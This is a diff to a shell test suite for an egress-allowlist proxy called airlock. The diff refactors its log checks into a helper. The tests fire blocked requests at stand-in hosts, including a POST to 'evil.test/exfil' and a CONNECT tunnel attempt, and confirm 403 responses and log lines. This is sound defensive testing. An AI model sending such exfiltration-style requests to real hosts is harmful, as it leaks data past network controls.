@@ -55,17 +55,15 @@ t_start_airlock "$T_DIR/allow.yaml" --allow-upstream-cidr 127.0.0.3/32 \
 # --- allowed, with the DNS topology (glibc resolves through airlock) ---
 out=$(curl -s -m 5 http://nginx.test/)
 t_eq "curl allowed GET through airlock" "hello from nginx" "$out"
-grep -q '^DNS A nginx.test -> 127.0.0.1$' "$T_DIR/net.log"; t_check "DNS line logged" test $? -eq 0
-grep -q '^allowed GET http://nginx.test/ -> 200$' "$T_DIR/net.log"
-t_check "allowed line logged" test $? -eq 0
+t_logged "DNS line logged" '^DNS A nginx.test -> 127.0.0.1$'
+t_logged "allowed line logged" '^allowed GET http://nginx.test/ -> 200$'
 
 # --- blocked: exact JSON, content type, log ---
 body=$(curl -s -m 5 -D "$T_DIR/h1" -X POST 'http://evil.test/exfil?d=1')
 t_eq "blocked JSON body" '{"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?d=1", "method": "POST", "message": "This host/path is not in the network allowlist. To request access, add the host/path to the network allowlist (network-allowlist.yaml) and ask the user to approve the change."}' "$body"
 grep -qi '^content-type: application/json' "$T_DIR/h1"; t_check "blocked has JSON content type" test $? -eq 0
 grep -q '^HTTP/1.1 403' "$T_DIR/h1"; t_check "blocked status 403" test $? -eq 0
-grep -q '^BLOCKED POST http://evil.test/exfil?d=1 -> 403$' "$T_DIR/net.log"
-t_check "blocked line logged" test $? -eq 0
+t_logged "blocked line logged" '^BLOCKED POST http://evil.test/exfil?d=1 -> 403$'
 
 # method message
 body=$(curl -s -m 5 -X DELETE http://api.test/v1/x)
@@ -77,14 +75,12 @@ t_contains "url_prefixes allow GET" "$out" '"request_line": "GET /v1/echo-header
 out=$(printf 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
 t_contains "CONNECT answered 403" "$out" "HTTP/1.1 403 Forbidden"
 t_contains "CONNECT JSON" "$out" '"host": "evil.test:443", "method": "CONNECT"'
-grep -q '^BLOCKED CONNECT evil.test:443 -> 403 (tunneling not allowed)$' "$T_DIR/net.log"
-t_check "CONNECT line logged" test $? -eq 0
+t_logged "CONNECT line logged" '^BLOCKED CONNECT evil.test:443 -> 403 (tunneling not allowed)$'
 
 # --- absolute-form with a different host ---
 out=$(printf 'GET http://evil.test/x HTTP/1.1\r\nHost: nginx.test\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
 t_contains "absolute-form mismatch 403" "$out" '"host": "nginx.test", "url_host": "evil.test"'
-grep -q '^BLOCKED GET http://nginx.test/x -> 403 (host mismatch: header=nginx.test, url=evil.test)$' "$T_DIR/net.log"
-t_check "mismatch line logged" test $? -eq 0
+t_logged "mismatch line logged" '^BLOCKED GET http://nginx.test/x -> 403 (host mismatch: header=nginx.test, url=evil.test)$'
 out=$(printf 'GET http://nginx.test/ HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
 t_contains "absolute-form same host is forwarded (origin-form upstream)" "$out" "hello from nginx"
 
@@ -215,18 +211,15 @@ t_eq "SSE: first event before the upstream finished" "stream" "$out"
 body=$(curl -s -m 10 -w ' %{http_code}' http://gone.test/)
 t_contains "unresolvable host: 502" "$body" "502"
 t_contains "unresolvable host: upstream_error JSON" "$body" '"error": "upstream_error"'
-grep -q '^ERROR GET http://gone.test/ -> Connection failed: ' "$T_DIR/net.log"
-t_check "unresolvable host: ERROR line" test $? -eq 0
+t_logged "unresolvable host: ERROR line" '^ERROR GET http://gone.test/ -> Connection failed: '
 body=$(curl -s -m 10 -w ' %{http_code}' http://refused.test/)
 t_contains "refused: 502" "$body" "502"
-grep -q '^ERROR GET http://refused.test/ -> Connection failed: connection refused' "$T_DIR/net.log"
-t_check "refused: ERROR line" test $? -eq 0
+t_logged "refused: ERROR line" '^ERROR GET http://refused.test/ -> Connection failed: connection refused'
 code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' http://py.test/reset-head)
 t_eq "reset before a response: 502" "502" "$code"
 curl -s -m 10 -o /dev/null http://py.test/reset-body; rc=$?
 t_check "reset mid-body: the client sees a broken transfer (curl exit $rc)" test $rc -ne 0
-grep -q '^ERROR GET http://py.test/reset-body -> Server disconnected during the response' "$T_DIR/net.log"
-t_check "reset mid-body: ERROR line" test $? -eq 0
+t_logged "reset mid-body: ERROR line" '^ERROR GET http://py.test/reset-body -> Server disconnected during the response'
 
 # --- smuggling forms: 400, nothing upstream ---
 before=$(wc -l < "$T_DIR/py-conns.log")
